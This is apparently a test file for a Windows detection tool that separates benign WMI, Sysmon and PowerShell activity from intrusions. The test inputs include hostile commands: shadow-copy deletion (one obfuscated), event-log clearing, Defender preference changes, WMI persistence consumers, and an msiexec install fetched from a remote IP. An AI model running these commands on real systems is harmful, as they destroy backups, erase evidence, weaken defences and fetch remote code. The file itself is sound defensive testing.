"""What an intruder may write himself never makes his act look like background."""

from __future__ import annotations

import pytest

from activity.rows_of import row, sysmon_start
from magistrate.activity.background import arguments_of, background_of
from magistrate.activity.run import examine
from magistrate.context.model import Context
from magistrate.store.duckdb import DuckDBStore

PROVIDER = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
SYSTEM = "NT AUTHORITY\\SYSTEM"
WMI = "Microsoft-Windows-WMI-Activity/Operational"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
MOFCOMP = "C:\\Windows\\System32\\wbem\\mofcomp.exe"
MSIEXEC = "C:\\Windows\\System32\\msiexec.exe"


def is_background(*rows):
    store = DuckDBStore.in_memory(rows)
    try:
        stories = examine(store, Context())
    finally:
        store.close()
    return bool(stories) and all(story.background for story in stories)


@pytest.mark.parametrize(
    ("image", "command"),
    [
        (MOFCOMP, f"{MOFCOMP} C:\\Users\\Public\\a.mof"),
        (MOFCOMP, f"{MOFCOMP} a.mof"),
        (MSIEXEC, "msiexec.exe /i https://192.0.2.7/a.msi REBOOT=ReallySuppress"),
        (MSIEXEC, "msiexec.exe /i C:\\Users\\Public\\a.msi REBOOT=ReallySuppress {x}"),
        (MSIEXEC, "msiexec.exe /q /i a.msi REBOOT=ReallySuppress"),
        ("C:\\Windows\\System32\\werfault.exe.scr", "werfault.exe.scr"),
    ],
)
def test_child_of_the_system_account_is_judged_by_what_it_is_given(image, command):
    assert not is_background(sysmon_start(0, image, PROVIDER, SYSTEM, 0x3E7, command=command))


@pytest.mark.parametrize(
    ("image", "command"),
    [
        (MOFCOMP, f'"{MOFCOMP}" "C:\\Windows\\System32\\wbem\\cimwin32.mof"'),
        (MSIEXEC, "msiexec.exe /i {90160000-0000-0000-0000-000000000000} REBOOT=ReallySuppress"),
        ("C:\\Windows\\System32\\WerFault.exe", "WerFault.exe -u -p 400 -s 88"),
    ],
)
def test_the_real_look_alike_stays_background(image, command):
    assert is_background(sysmon_start(0, image, PROVIDER, SYSTEM, 0x3E7, command=command))


def test_system_account_that_compiles_a_foreign_mof_is_not_background():
    parent = "C:\\Windows\\System32\\cmd.exe"

    assert not is_background(
        sysmon_start(0, MOFCOMP, parent, SYSTEM, 0x3E7, command="mofcomp.exe C:\\Users\\Public\\a.mof")
    )


@pytest.mark.parametrize(
    "script",
    [
        "Get-WmiObject Win32_ShadowCopy | % Delete",
        "gwmi Win32_ShadowCopy | % { $_.('De'+'lete')() }",
        "$m = Get-Content m.txt; (gwmi -List Win32_Process).$m('calc')",
        "(gwmi Win32_Process -Filter \"name='x.exe'\").Terminate()",
        "Get-CimInstance Win32_Process -CimSession $s",
    ],
)
def test_script_that_does_more_than_read_here_is_not_background(script):
    block = row(
        "ps_script",
        "Microsoft-Windows-PowerShell/Operational",
        4104,
        0,
        ScriptBlockText=script,
        ScriptBlockId="b1",
        MessageNumber=1,
        MessageTotal=1,
        User="CORP\\adm",
    )
    process = sysmon_start(
        0, POWERSHELL, "C:\\Windows\\explorer.exe", "CORP\\adm", 0xABC, command=f"powershell.exe -c {script}"
    )

    assert not is_background(block)
    assert not is_background(process)


@pytest.mark.parametrize(
    "operation",
    [
        'Start IWbemServices::ExecMethod - root\\cimv2 : Win32_NTEventlogFile.Name="a"::ClearEventLog',
        "Start IWbemServices::ExecMethod - root\\cimv2 : Win32_Process::Create",
        "Start IWbemServices::ExecMethod - root\\Microsoft\\Windows\\Defender : MSFT_MpPreference::Add",
        'Start IWbemServices::PutInstance - root\\subscription : CommandLineEventConsumer.Name="::ExecQuery"',
    ],
)
def test_change_by_the_system_account_is_not_background(operation):
    assert not is_background(
        row("wmi_activity", WMI, 5858, 0, Operation=operation, User=SYSTEM, ClientMachine="SRV01")
    )


def test_change_by_a_person_is_not_background_whatever_name_it_carries():
    operation = 'Start IWbemServices::ExecMethod - root\\cimv2 : Win32_Service.Name="::ExecQuery"::Create'

    assert not is_background(
        row("wmi_activity", WMI, 5858, 0, Operation=operation, User="CORP\\adm", ClientMachine="SRV01")
    )


def test_filter_named_like_the_built_in_one_is_not_background():
    assert not is_background(
        row(
            "wmi_subscription",
            SYSMON,
            19,
            0,
            Operation="Created",
            Name="SCM Event Log Filter",
            Query="SELECT * FROM __InstanceModificationEvent",
            User="CORP\\adm",
        )
    )


def test_binding_to_a_consumer_named_like_the_built_in_one_is_not_background():
    assert not is_background(
        row(
            "wmi_subscription",
            SYSMON,
            21,
            0,
            Operation="Created",
            Filter='__EventFilter.Name="SCM Event Log Filter"',
            Consumer='CommandLineEventConsumer.Name="SCM Event Log Consumer"',
            User="CORP\\adm",
        )
    )


def test_left_over_consumer_with_more_than_its_own_payload_is_not_background():
    payload = "cscript KernCap.vbs & calc.exe"

    assert background_of("subscription", {"subscription": "BVTConsumer", "payload": payload}) is None
    assert background_of("subscription", {"subscription": "BVTConsumer", "payload": payload[:19]})


def test_arguments_are_what_follows_the_program():
    assert arguments_of('"C:\\Program Files\\a.exe" /x y') == "/x y"
    assert arguments_of("a.exe /x") == "/x"
    assert arguments_of(None) == ""
